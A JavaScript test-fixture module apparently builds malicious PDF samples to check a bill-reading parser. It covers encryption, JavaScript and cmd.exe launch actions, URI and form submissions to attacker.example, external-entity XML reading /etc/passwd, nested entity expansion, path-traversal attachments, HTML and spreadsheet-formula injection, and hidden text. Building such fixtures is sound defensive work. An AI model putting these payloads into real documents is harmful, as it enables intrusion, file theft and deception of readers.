import { createHash } from 'node:crypto';
import { billText, bytes, font, onePage, packed, pdf, stream } from './rawPdf.mjs';

const action = body => onePage(stream(billText), { catalog: `/OpenAction ${body}` });
const show = text => onePage(stream(`BT /F1 12 Tf 50 700 Td ${text} ET`));

// The standard security handler of PDF 1.4 (revision 3, RC4 of 128 bits), which needs no random values.
function encrypted(user, owner) {
  const pad = Buffer.from('28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A', 'hex');
  const md5 = data => createHash('md5').update(data).digest();
  const padded = text => Buffer.concat([Buffer.from(text, 'latin1'), pad]).subarray(0, 32);
  const hashed = (data, times) => {
    let hash = data;
    for (let at = 0; at < times; at++) hash = md5(hash);
    return hash;
  };
  const layered = (key, data) => {
    for (let at = 0; at < 20; at++)
      data = rc4(
        key.map(byte => byte ^ at),
        data,
      );
    return data;
  };
  const id = md5('calling plans');
  const rights = Buffer.alloc(4);
  rights.writeInt32LE(-3904);
  const o = layered(hashed(padded(owner), 51), padded(user));
  const key = hashed(Buffer.concat([padded(user), o, rights, id]), 51);
  const u = Buffer.concat([layered(key, md5(Buffer.concat([pad, id]))), Buffer.alloc(16)]);
  const body = rc4(md5(Buffer.concat([key, Buffer.from([4, 0, 0, 0, 0])])), bytes(billText));
  return onePage(stream(body), {
    more: [
      `<< /Filter /Standard /V 2 /R 3 /Length 128 /P -3904 /O <${o.toString('hex')}> /U <${u.toString('hex')}> >>`,
    ],
    trailer: `/Root 1 0 R /Encrypt 6 0 R /ID [<${id.toString('hex')}> <${id.toString('hex')}>]`,
  });
}

function rc4(key, data) {
  const state = Uint8Array.from({ length: 256 }, (_, at) => at);
  for (let at = 0, other = 0; at < 256; at++) {
    other = (other + state[at] + key[at % key.length]) & 255;
    [state[at], state[other]] = [state[other], state[at]];
  }
  let [one, two] = [0, 0];
  return Buffer.from(data).map(byte => {
    one = (one + 1) & 255;
    two = (two + state[one]) & 255;
    [state[one], state[two]] = [state[two], state[one]];
    return byte ^ state[(state[one] + state[two]) & 255];
  });
}

export const active = [
  {
    id: 'encrypted-user-password',
    what: 'encrypted; the user password is “secret”',
    encrypted: true,
    make: () => encrypted('secret', 'owner'),
  },
  {
    id: 'encrypted-owner-only',
    what: 'encrypted with an empty user password: opens without one, copying not allowed',
    encrypted: true,
    readable: true,
    make: () => encrypted('', 'owner'),
  },
  {
    id: 'encrypted-unknown-handler',
    what: 'names a security handler that does not exist',
    encrypted: true,
    make: () =>
      onePage(stream(billText), {
        more: ['<< /Filter /No.Such.Handler /V 99 /R 99 >>'],
        trailer: '/Root 1 0 R /Encrypt 6 0 R',
      }),
  },
  {
    id: 'javascript',
    what: 'JavaScript on opening, in the name tree and on the page',
    readable: true,
    make: () =>
      onePage(stream(billText), {
        catalog:
          '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (while\\(true\\){}) >>] >> >>',
        page: '/AA << /O << /S /JavaScript /JS (this.print\\(\\)) >> >>',
      }),
  },
  {
    id: 'launch-action',
    what: 'starts a program on opening',
    readable: true,
    make: () => action('<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c exit) >> >>'),
  },
  {
    id: 'remote-actions',
    what: 'opens an address, a remote file, and sends a form',
    readable: true,
    make: () =>
      action(
        '<< /S /URI /URI (http://attacker.example/?a) /Next [<< /S /GoToR /F (\\\\\\\\attacker.example\\\\share\\\\x.pdf) >> << /S /SubmitForm /F (http://attacker.example/) >>] >>',
      ),
  },
  {
    id: 'external-stream',
    what: 'the content is said to lie in a file of the machine, and at an address',
    make: () =>
      onePage(stream('', '/F (/etc/passwd)'), {
        page: '/Contents [4 0 R 6 0 R]',
        more: [stream('', '/F << /FS /URL /F (http://attacker.example/content) >>')],
      }),
  },
  {
    id: 'embedded-files',
    what: 'an embedded file named like a program, another with a path that climbs, a third that says 4 GiB',
    readable: true,
    make: () =>
      onePage(stream(billText), {
        catalog:
          '/Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec /F (invoice.exe) /EF << /F 6 0 R >> >> (b) << /Type /Filespec /F (../../../../tmp/x) /EF << /F 6 0 R >> >> (c) << /Type /Filespec /F (c) /EF << /F 7 0 R >> >>] >> >>',
        more: [
          packed('not a program', '/Type /EmbeddedFile'),
          packed('x', '/Type /EmbeddedFile /Params << /Size 4294967295 >>'),
        ],
      }),
  },
  {
    id: 'xfa-entities',
    what: 'an XFA form whose XML has an external entity and nested entities',
    readable: true,
    make: () =>
      onePage(stream(billText), {
        catalog: '/AcroForm << /Fields [] /XFA 6 0 R >>',
        more: [
          packed(
            '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd"><!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><x>&f;&c;</x>',
          ),
        ],
      }),
  },
  {
    id: 'metadata-entities',
    what: 'XMP metadata with an external entity',
    readable: true,
    make: () =>
      onePage(stream(billText), {
        catalog: '/Metadata 6 0 R',
        more: [
          stream(
            '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><x:xmpmeta xmlns:x="adobe:ns:meta/">&f;</x:xmpmeta>',
            '/Type /Metadata /Subtype /XML',
          ),
        ],
      }),
  },
  {
    id: 'markup-in-values',
    what: 'values that are HTML, a formula, a path and a format string',
    readable: true,
    make: () =>
      show(
        '(Company name: <img src=x onerror=alert\\(1\\)>) Tj 0 -20 Td (Account number: =HYPERLINK\\("http://attacker.example"\\)) Tj 0 -20 Td (Contact: ../../x{0}%s) Tj',
      ),
  },
  {
    id: 'control-characters',
    what: 'values with NUL, line breaks, an escape sequence, and overrides of the direction of writing',
    readable: true,
    make: () =>
      pdf([
        '<< /Type /Catalog /Pages 2 0 R >>',
        '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R /F2 6 0 R >> >> >>',
        stream(
          'BT /F1 12 Tf 50 700 Td (Account number: 44\\00000\\033[31m\\r\\n1188) Tj 0 -20 Td (Company name: ) Tj /F2 12 Tf <010203> Tj ET',
        ),
        font,
        '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /ToUnicode 7 0 R >>',
        stream(
          '/CIDInit /ProcSet findresource begin begincmap 1 begincodespacerange <00> <FF> endcodespacerange 3 beginbfchar <01> <202E> <02> <0000> <03> <D800> endbfchar endcmap end',
        ),
      ]),
  },
  {
    id: 'hidden-text',
    what: 'a second set of facts in invisible text, in white, off the page, and in an optional layer that is off',
    readable: true,
    make: () =>
      onePage(
        stream(
          `${billText} BT 3 Tr /F1 12 Tf 50 600 Td (Account number: 9999-0001) Tj 0 Tr 1 g 0 -20 Td (Account number: 9999-0002) Tj 0 g 5000 0 Td (Account number: 9999-0003) Tj ET /OC /L BDC BT /F1 12 Tf 50 500 Td (Account number: 9999-0004) Tj ET EMC`,
        ),
        {
          catalog: '/OCProperties << /OCGs [6 0 R] /D << /OFF [6 0 R] >> >>',
          resources: '/Properties << /L 6 0 R >>',
          more: ['<< /Type /OCG /Name (Off) >>'],
        },
      ),
  },
];
